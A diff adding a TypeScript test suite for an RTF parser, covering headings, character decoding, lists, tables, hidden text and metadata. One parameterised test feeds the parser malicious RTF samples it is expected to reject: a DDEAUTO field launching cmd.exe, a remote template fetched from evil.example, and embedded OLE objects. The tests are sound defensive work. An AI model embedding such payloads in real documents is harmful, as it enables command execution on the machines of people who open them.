@@ -1,0 +1,83 @@
+import { identifyFile } from '../../formats/file-identifier';
+import { describeDocumentParser } from '../../testing/describe-document-parser';
+import { RtfParser } from './rtf-parser';
+
+const rtf = (body: string): Buffer => Buffer.from(`{\\rtf1\\ansi\\ansicpg1252\\deff0${body}}`, 'latin1');
+const parse = (body: string) => new RtfParser().parse(rtf(body));
+const text = async (body: string) => (await parse(body)).sections.map(({ text: own }) => own).join('\n--\n');
+const identify = (bytes: Buffer) => identifyFile([new RtfParser()], { fileName: 'a.rtf', mediaType: '', bytes });
+
+describeDocumentParser(
+  'RtfParser',
+  () => new RtfParser(),
+  async () => ({
+    bytes: rtf(
+      '{\\stylesheet{\\s1 heading 1;}}\\pard\\s1 Refunds\\par\\pard Five days.\\par{\\pard\\outlinelevel1 Cards\\par}\\pard The same card.\\par',
+    ),
+    texts: ['Refunds', 'Five days.', 'Cards', 'The same card.'],
+  }),
+);
+
+describe('RtfParser', () => {
+  it('finds headings by style and by outline level', async () => {
+    const { sections } = await parse(
+      '{\\stylesheet{\\s0 Normal;}{\\s3\\b heading 2;}}\\pard\\outlinelevel0 A\\par\\pard\\s3 B\\par\\pard c\\par',
+    );
+    expect(sections).toEqual([{ headingPath: ['A', 'B'], text: 'c' }]);
+  });
+
+  it.each([
+    ['escaped bytes', "caf\\'e9 \\'80 5", 'café € 5'],
+    ['Unicode with its fallback', '\\u8364? \\uc2\\u-10179ab\\u-8704cd x\\uc0\\u233 y', '€ 😀 xéy'],
+    ['a fallback of escaped bytes', "\\uc2\\u21517\\'96\\'bc!", '名!'],
+    ['two bytes a letter, by the font', "{\\fonttbl{\\f1\\fcharset128 Mincho;}}\\f1\\'96\\'bc\\'91O", '名前'],
+    ['signs', 'a\\emdash b\\~c\\tab d\\_e \\{f\\}', 'a—b c\td-e {f}'],
+    ['a line in a paragraph', 'a\\line b\\par c', 'a\nb\n\nc'],
+    ['binary data', '{\\*\\shppict{\\pict\\bin5 }}}}}x}}y', 'y'],
+  ])('reads %s', async (_name, body, expected) => {
+    expect(await text(body)).toBe(expected);
+  });
+
+  it('keeps lists, tables and notes', async () => {
+    const item = (marker: string, words: string): string => `\\pard{\\listtext\\tab ${marker}\\tab}${words}\\par`;
+    const row = (...cells: string[]): string => `\\trowd\\pard\\intbl ${cells.join('\\cell ')}\\cell\\row`;
+    expect(
+      await text(
+        `${item('1.', 'Open')}${item("\\'b7", 'the menu')}${item('2.', 'Pay')}${row('Plan', 'Price')}${row('Pro', '20')}\\pard End{\\footnote A note.} here\\par`,
+      ),
+    ).toBe('1. Open\n- the menu\n2. Pay\n\nPlan | Price\nPlan: Pro | Price: 20\n\nEnd here\n\nA note.');
+  });
+
+  it('marks hidden and tiny text', async () => {
+    const { sections } = await parse('Shown {\\v hidden\\v0  again}{\\fs2 tiny}\\par');
+    expect(sections).toEqual([
+      { headingPath: [], text: 'hiddentiny', isHidden: true },
+      { headingPath: [], text: 'Shown  again' },
+    ]);
+  });
+
+  it('takes its title, and leaves out what is no text of the document', async () => {
+    const parsed = await parse(
+      '{\\fonttbl{\\f0 Arial;}}{\\colortbl;\\red0;}{\\info{\\title Manual}{\\author Ann}}{\\header Page}{\\*\\unknown secret}{\\pict 0102}{\\deleted old}{\\field{\\*\\fldinst HYPERLINK "a"}{\\fldrslt link}}',
+    );
+    expect(parsed).toEqual({ title: 'Manual', sections: [{ headingPath: [], text: 'link' }] });
+  });
+
+  it('reads text boxes', async () => {
+    expect(await text('{\\shp{\\*\\shpinst{\\sp{\\sn a}{\\sv 1}}{\\shptxt Boxed\\par}}}After')).toBe('Boxed\n\nAfter');
+  });
+
+  it.each([
+    ['an object that updates itself', '{\\object\\objautlink\\objupdate{\\*\\objdata 01}}'],
+    ['a packaged file', `{\\object\\objemb{\\*\\objdata ${Buffer.from('xPackage\0').toString('hex')}}}`],
+    ['a call to another program', '{\\field{\\*\\fldinst DDEAUTO c:\\\\cmd.exe "/k calc"}}'],
+    ['a template from elsewhere', '{\\*\\template http://evil.example/a.dotm}'],
+  ])('refuses %s', async (_name, body) => {
+    await expect(identify(rtf(body))).rejects.toMatchObject({ code: 'document.active-content' });
+  });
+
+  it('refuses a tower of groups, and survives groups that are never opened or closed', async () => {
+    await expect(parse('{'.repeat(2000))).rejects.toMatchObject({ code: 'document.too-complex' });
+    expect(await text('}}}}a{\\b b')).toBe('ab');
+  });
+});
